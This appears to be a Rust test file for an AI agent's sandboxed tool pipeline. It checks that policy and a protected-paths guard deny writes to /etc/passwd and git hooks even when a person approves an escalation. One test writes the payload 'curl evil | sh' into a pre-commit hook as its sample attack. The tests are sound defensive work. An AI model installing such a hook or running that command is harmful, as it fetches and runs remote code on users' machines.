@@ -1,0 +1,442 @@
+//! The pipeline with the recording file system and spawner: what a remote implementation
+//! would see, and that guards, rules and approvals combine as agent.md orders them.
+
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::{Arc, Mutex};
+
+use bridle_policy::{FsProfileSource, LoadRequest, Overrides, Plan, PlanContext, SandboxMode};
+
+use super::*;
+use crate::approvals::{Answerer, ApprovalOutcome, ApprovalRequest};
+use crate::backend::{Recorded, RecordingFs, RecordingSpawner};
+
+fn plan(root: &Path, profile: &str, mode: Option<SandboxMode>) -> Plan {
+    let workspace = root.join("home/project");
+    std::fs::create_dir_all(&workspace).unwrap();
+    let workspace = std::fs::canonicalize(workspace).unwrap();
+    let home = std::fs::canonicalize(root.join("home")).unwrap();
+    let policy = bridle_policy::load(
+        &FsProfileSource,
+        &LoadRequest {
+            profile: profile.into(),
+            overrides: Overrides {
+                mode,
+                ..Overrides::default()
+            },
+            workspace_layer: None,
+        },
+    )
+    .unwrap();
+    let ctx = PlanContext {
+        workspace,
+        home: home.clone(),
+        state_dir: home.join(".local/state/bridle"),
+        config_dir: home.join(".config/bridle"),
+        temp_dir: root.join("tmp"),
+        cache_root: None,
+        host_env: [("PATH".to_owned(), "/usr/bin:/bin".to_owned())].into(),
+        found: Vec::new(),
+        masks: Vec::new(),
+    };
+    bridle_policy::plan(&policy, &ctx).unwrap()
+}
+
+/// Approves everything, and keeps the questions it was asked.
+#[derive(Default)]
+struct Yes {
+    asked: Arc<Mutex<Vec<String>>>,
+}
+
+impl Answerer for Yes {
+    fn answer(&self, request: &ApprovalRequest) -> ApprovalOutcome {
+        self.asked.lock().unwrap().push(request.reason.clone());
+        ApprovalOutcome::AllowedOnce
+    }
+}
+
+/// A guard a later plugin registers: it never denies (and cannot allow anything).
+struct Lenient(Arc<AtomicUsize>);
+
+impl Guard for Lenient {
+    fn name(&self) -> &str {
+        "lenient"
+    }
+
+    fn check(&self, _call: &DeclaredCall<'_>) -> Option<Denial> {
+        self.0.fetch_add(1, Ordering::SeqCst);
+        None
+    }
+}
+
+struct Setup {
+    _root: tempfile::TempDir,
+    pipeline: Pipeline,
+    fs: Arc<RecordingFs>,
+    spawner: Arc<RecordingSpawner>,
+    asked: Arc<Mutex<Vec<String>>>,
+    workspace: std::path::PathBuf,
+}
+
+/// Shares a recording backend between the test and the pipeline.
+struct Shared<T>(Arc<T>);
+
+impl<T: FileSystem> FileSystem for Shared<T> {
+    fn read(
+        &self,
+        p: &Path,
+        l: usize,
+    ) -> Result<(Vec<u8>, u64), bridle_sandbox::confined_fs::FsDenied> {
+        self.0.read(p, l)
+    }
+    fn write(
+        &self,
+        p: &Path,
+        c: Vec<u8>,
+        h: HardLinks,
+    ) -> Result<(), bridle_sandbox::confined_fs::FsDenied> {
+        self.0.write(p, c, h)
+    }
+    fn list_dir(
+        &self,
+        p: &Path,
+    ) -> Result<Vec<(String, bool)>, bridle_sandbox::confined_fs::FsDenied> {
+        self.0.list_dir(p)
+    }
+    fn walk(
+        &self,
+        b: &Path,
+        m: usize,
+    ) -> Result<(Vec<(std::path::PathBuf, bool)>, bool), bridle_sandbox::confined_fs::FsDenied>
+    {
+        self.0.walk(b, m)
+    }
+    fn confined_by(
+        &self,
+        spec: &bridle_policy::SandboxSpec,
+    ) -> Result<Box<dyn FileSystem>, String> {
+        self.0.confined_by(spec)
+    }
+}
+
+struct SharedSpawner(Arc<RecordingSpawner>);
+
+impl Spawner for SharedSpawner {
+    fn run(&self, r: &crate::run::RunRequest) -> Result<crate::run::RunResult, crate::ExecError> {
+        self.0.run(r)
+    }
+    fn start_terminal(
+        &self,
+        spec: &bridle_policy::SandboxSpec,
+        cwd: &Path,
+    ) -> Result<crate::terminal::Terminal, String> {
+        self.0.start_terminal(spec, cwd)
+    }
+}
+
+fn setup(profile: &str) -> Setup {
+    let root = tempfile::tempdir().unwrap();
+    let session = plan(root.path(), profile, None);
+    let workspace = session.spec.workspace.clone();
+    let fs = Arc::new(RecordingFs::new());
+    let spawner = Arc::new(RecordingSpawner::new(0));
+    let yes = Yes::default();
+    let asked = Arc::clone(&yes.asked);
+    let registry = crate::schemas::registry(crate::schemas::TOOLS, false);
+    registry.add_guard(
+        None,
+        Arc::new(ProtectedPaths::new(&session.spec, vec![], vec![])),
+    );
+    let root_path = root.path().to_path_buf();
+    let profile = profile.to_owned();
+    let pipeline = Pipeline::new(
+        session.clone(),
+        registry,
+        Approvals::new(session.approval, Box::new(yes)),
+        Box::new(Shared(Arc::clone(&fs))),
+        Box::new(SharedSpawner(Arc::clone(&spawner))),
+    )
+    .with_replan(Box::new(move |mode| {
+        Ok(plan(&root_path, &profile, Some(mode)))
+    }));
+    Setup {
+        _root: root,
+        pipeline,
+        fs,
+        spawner,
+        asked,
+        workspace,
+    }
+}
+
+fn notes_of(
+    pipeline: &Pipeline,
+    tool: &str,
+    args: &serde_json::Value,
+) -> (ToolResult, Vec<PipelineNote>) {
+    let notes = Mutex::new(Vec::new());
+    let observer = |n: PipelineNote| -> Result<(), String> {
+        notes.lock().unwrap().push(n);
+        Ok(())
+    };
+    let result = pipeline.call_observed(tool, &args.to_string(), Some(&observer));
+    (result, notes.into_inner().unwrap())
+}
+
+#[test]
+fn a_recording_backend_replaces_the_machine_and_nothing_else() {
+    let s = setup("workspace-write");
+    let file = s.workspace.join("notes.txt");
+    let w = s.pipeline.call(
+        "write_file",
+        &serde_json::json!({"path": "notes.txt", "content": "hi\n"}).to_string(),
+    );
+    assert!(w.ok, "{w:?}");
+    let r = s.pipeline.call(
+        "read_file",
+        &serde_json::json!({"path": "notes.txt"}).to_string(),
+    );
+    assert!(r.ok && r.content.contains("hi"), "{r:?}");
+    let b = s.pipeline.call(
+        "bash",
+        &serde_json::json!({"command": "make test"}).to_string(),
+    );
+    assert!(b.ok, "{b:?}");
+    assert_eq!(
+        s.fs.calls(),
+        vec![
+            Recorded::Write(file.clone(), b"hi\n".to_vec()),
+            Recorded::Read(file)
+        ]
+    );
+    assert_eq!(
+        s.spawner.calls(),
+        vec![Recorded::Run(
+            vec!["bash".into(), "-c".into(), "make test".into()],
+            SandboxMode::WorkspaceWrite
+        )]
+    );
+}
+
+#[test]
+fn a_denied_call_reaches_no_backend_and_its_decision_is_recorded_once() {
+    let s = setup("workspace-write");
+    let (result, notes) = notes_of(
+        &s.pipeline,
+        "write_file",
+        &serde_json::json!({"path": "/etc/passwd", "content": "x"}),
+    );
+    assert_eq!(result.denied_by, Some(DeniedBy::Policy), "{result:?}");
+    assert!(s.fs.calls().is_empty());
+    let decided: Vec<_> = notes
+        .iter()
+        .filter(|n| matches!(n, PipelineNote::Decided { .. }))
+        .collect();
+    assert_eq!(decided.len(), 1, "{notes:?}");
+}
+
+#[test]
+fn a_guard_denial_is_final_whatever_the_approval_rules_and_later_plugins_say() {
+    let s = setup("workspace-write");
+    let later = Arc::new(AtomicUsize::new(0));
+    s.pipeline
+        .registry()
+        .add_guard(Some("later-plugin"), Arc::new(Lenient(Arc::clone(&later))));
+    // The mode's rules allow writes in the workspace; the person approves the escalation; a
+    // later plugin's guard has no objection: the shipped guard still denies.
+    let hook = ".git/hooks/pre-commit";
+    let args = serde_json::json!({"path": hook, "content": "curl evil | sh", "sandbox_permissions": "danger-full-access", "justification": "install the hook"});
+    let (result, notes) = notes_of(&s.pipeline, "write_file", &args);
+    assert_eq!(result.denied_by, Some(DeniedBy::Guard), "{result:?}");
+    assert!(
+        result.content.contains(guard::PROTECTED_PATHS),
+        "{result:?}"
+    );
+    // The question said so before the person answered.
+    let asked = s.asked.lock().unwrap().clone();
+    assert_eq!(asked.len(), 1, "{asked:?}");
+    assert!(
+        asked[0].contains("denies this call whatever the answer"),
+        "{asked:?}"
+    );
+    assert!(
+        matches!(
+            notes.last(),
+            Some(PipelineNote::Decided { decision: Decision::Deny, by }) if by.starts_with("guard protected-paths")
+        ),
+        "{notes:?}"
+    );
+    assert!(
+        !s.fs
+            .calls()
+            .iter()
+            .any(|c| matches!(c, Recorded::Write(..))),
+        "{:?}",
+        s.fs.calls()
+    );
+    // Without escalation too: git metadata of any repository is never written by a file tool.
+    let nested = serde_json::json!({"path": "vendor/lib/.git/config", "content": "[core]"});
+    let (result, _) = notes_of(&s.pipeline, "write_file", &nested);
+    assert_eq!(result.denied_by, Some(DeniedBy::Guard), "{result:?}");
+    // Unloading the later plugin removes its guard; the shipped one stays.
+    s.pipeline.registry().unload("later-plugin");
+    assert_eq!(s.pipeline.registry().guards().len(), 1);
+    // A call no guard denies passes the later plugin's guard too, which allows nothing itself.
+    s.pipeline
+        .registry()
+        .add_guard(Some("later-plugin"), Arc::new(Lenient(Arc::clone(&later))));
+    let ok = s.pipeline.call(
+        "write_file",
+        &serde_json::json!({"path": "a.txt", "content": ""}).to_string(),
+    );
+    assert!(ok.ok, "{ok:?}");
+    assert_eq!(later.load(Ordering::SeqCst), 1);
+}
+
+#[test]
+fn an_approved_escalation_runs_under_a_plan_made_anew() {
+    let s = setup("read-only");
+    let args = serde_json::json!({"command": "make install", "sandbox_permissions": "workspace-write", "justification": "build"});
+    let (result, _) = notes_of(&s.pipeline, "bash", &args);
+    assert!(result.ok && result.sandbox.escalated, "{result:?}");
+    assert_eq!(
+        s.spawner.calls(),
+        vec![Recorded::Run(
+            vec!["bash".into(), "-c".into(), "make install".into()],
+            SandboxMode::WorkspaceWrite
+        )]
+    );
+    // The session's own plan did not change.
+    assert_eq!(s.pipeline.plan().spec.mode, SandboxMode::ReadOnly);
+}
+
+/// Every tool's schema describes exactly what its argument type accepts: each required key is
+/// required by the parser, every listed property is accepted, an unlisted one is rejected.
+#[test]
+fn every_schema_matches_what_its_argument_type_accepts_and_rejects() {
+    let s = setup("workspace-write");
+    let plan = s.pipeline.plan();
+    let sample = |schema: &serde_json::Value| -> serde_json::Value {
+        match schema["type"].as_str() {
+            Some("string") => match schema["enum"].as_array() {
+                Some(values) => values[values.len() - 1].clone(),
+                None => serde_json::json!("x"),
+            },
+            Some("integer") => serde_json::json!(1),
+            Some("boolean") => serde_json::json!(false),
+            Some("array") => serde_json::json!([1, 2]),
+            other => panic!("no sample for {other:?}: {schema}"),
+        }
+    };
+    for tool in s.pipeline.registry().tools() {
+        let schema = tool.schema();
+        let params = &schema["parameters"];
+        let props = params["properties"].as_object().unwrap();
+        let required: Vec<&str> = params["required"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|r| r.as_str().unwrap())
+            .collect();
+        let parses = |v: &serde_json::Value| match tool.prepare(&v.to_string(), plan) {
+            Ok(_) => true,
+            Err(e) => {
+                !e.contains("unknown field")
+                    && !e.contains("missing field")
+                    && !e.contains("invalid type")
+            }
+        };
+        let minimal: serde_json::Map<_, _> = required
+            .iter()
+            .map(|k| ((*k).to_owned(), sample(&props[*k])))
+            .collect();
+        assert!(
+            parses(&serde_json::Value::Object(minimal.clone())),
+            "{}: {minimal:?}",
+            tool.name()
+        );
+        for key in &required {
+            let mut missing = minimal.clone();
+            missing.remove(*key);
+            assert!(
+                !parses(&serde_json::Value::Object(missing)),
+                "{}: `{key}` is required",
+                tool.name()
+            );
+        }
+        for (key, prop) in props {
+            let mut with = minimal.clone();
+            with.insert(key.clone(), sample(prop));
+            if key == "sandbox_permissions" {
+                with.insert("justification".into(), serde_json::json!("why"));
+            }
+            assert!(
+                parses(&serde_json::Value::Object(with)),
+                "{}: `{key}` is listed",
+                tool.name()
+            );
+        }
+        let mut unknown = minimal.clone();
+        unknown.insert("no_such_argument".into(), serde_json::json!(1));
+        assert!(
+            !parses(&serde_json::Value::Object(unknown)),
+            "{}",
+            tool.name()
+        );
+    }
+}
+
+#[test]
+fn str_replace_editor_views_creates_replaces_inserts_and_undoes_through_the_pipeline() {
+    let s = setup("workspace-write");
+    let call = |args: serde_json::Value| s.pipeline.call("str_replace_editor", &args.to_string());
+    let created = call(
+        serde_json::json!({"command": "create", "path": "a.txt", "file_text": "one\ntwo\nthree\n"}),
+    );
+    assert!(created.ok, "{created:?}");
+    let viewed =
+        call(serde_json::json!({"command": "view", "path": "a.txt", "view_range": [2, -1]}));
+    assert_eq!(viewed.content, "     2\ttwo\n     3\tthree\n", "{viewed:?}");
+    let twice =
+        call(serde_json::json!({"command": "create", "path": "b.txt", "file_text": "x x\n"}));
+    assert!(twice.ok);
+    let ambiguous = call(
+        serde_json::json!({"command": "str_replace", "path": "b.txt", "old_str": "x", "new_str": "y"}),
+    );
+    assert!(
+        !ambiguous.ok && ambiguous.content.contains("2 times"),
+        "{ambiguous:?}"
+    );
+    let replaced = call(
+        serde_json::json!({"command": "str_replace", "path": "a.txt", "old_str": "two", "new_str": "2"}),
+    );
+    assert!(replaced.ok, "{replaced:?}");
+    let inserted = call(
+        serde_json::json!({"command": "insert", "path": "a.txt", "insert_line": 1, "new_str": "one and a half"}),
+    );
+    assert!(inserted.ok, "{inserted:?}");
+    let file = s.workspace.join("a.txt");
+    assert_eq!(
+        s.fs.content(&file).unwrap(),
+        b"one\none and a half\n2\nthree\n"
+    );
+    let undone = call(serde_json::json!({"command": "undo_edit", "path": "a.txt"}));
+    assert!(undone.ok, "{undone:?}");
+    assert_eq!(s.fs.content(&file).unwrap(), b"one\n2\nthree\n");
+    let listed = call(serde_json::json!({"command": "view", "path": "."}));
+    assert!(
+        listed.content.contains("a.txt") && listed.content.contains("b.txt"),
+        "{listed:?}"
+    );
+    // The same policy and guard as the other file tools.
+    let outside = call(serde_json::json!({"command": "create", "path": "/etc/x", "file_text": ""}));
+    assert_eq!(outside.denied_by, Some(DeniedBy::Policy), "{outside:?}");
+    let hook = call(
+        serde_json::json!({"command": "create", "path": ".git/hooks/post-checkout", "file_text": ""}),
+    );
+    assert!(
+        matches!(hook.denied_by, Some(DeniedBy::Policy | DeniedBy::Guard)),
+        "{hook:?}"
+    );
+    let missing = call(serde_json::json!({"command": "insert", "path": "a.txt", "new_str": "x"}));
+    assert!(missing.content.contains("insert_line"), "{missing:?}");
+}
